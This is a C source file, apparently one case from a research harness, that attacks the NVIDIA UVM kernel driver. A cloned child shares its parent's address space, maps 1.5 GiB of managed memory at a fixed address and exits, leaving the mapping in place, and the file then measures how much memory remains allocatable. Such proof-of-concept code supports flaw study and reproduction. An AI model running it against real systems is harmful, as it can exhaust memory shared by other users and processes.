/* Managed memory in an address space that outlives the process that mapped it. */
#include "attack.h"

#include <sched.h>
#include <signal.h>

#define PLACE ((void *) 0x700000000000u)

static int file, error;

static int map_and_go (void *argument)
{
    void *place = mmap (PLACE, 1536 * MIB, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, file, (off_t) (uintptr_t) PLACE);

    (void) argument;
    error = place == MAP_FAILED ? errno : 0;
    _exit (0);
}

/* uvm-clone: a child without a call of its own gets a child that shares its address space (CLONE_VM), maps 1.5 GiB there and ends. The
 * mapping stays. How many pieces of 1 GiB can be had beside it? */
void attack_uvm_clone (int argc, char **argv)
{
    static uint8_t stack[65536] __attribute__ ((aligned (16)));
    uint64_t initialize[2] = { 0, 0xffff };
    struct bed bed = bed_open ();
    int told[2], said = 0;

    (void) argc, (void) argv;
    file = open ("/dev/nvidia-uvm", O_RDWR);
    if (file < 0 || ioctl (file, 0x30000001, initialize) != 0 || pipe (told) != 0)
        exit (4);
    pid_t child = fork ();
    if (child == 0) {
        pid_t heirless = clone (map_and_go, stack + sizeof (stack), CLONE_VM | CLONE_FILES | SIGCHLD, NULL);

        waitpid (heirless, NULL, 0);
        if (write (told[1], &error, sizeof (error)) != sizeof (error))
            _exit (5);
        for (;;)
            pause ();
    }
    if (read (told[0], &said, sizeof (said)) != sizeof (said))
        exit (5);
    say ("mapped", (uint64_t) said);
    sleep (3);
    say ("pieces", bed_fill (&bed));
    kill (child, SIGKILL);
    waitpid (child, NULL, 0);
    hold ();
}
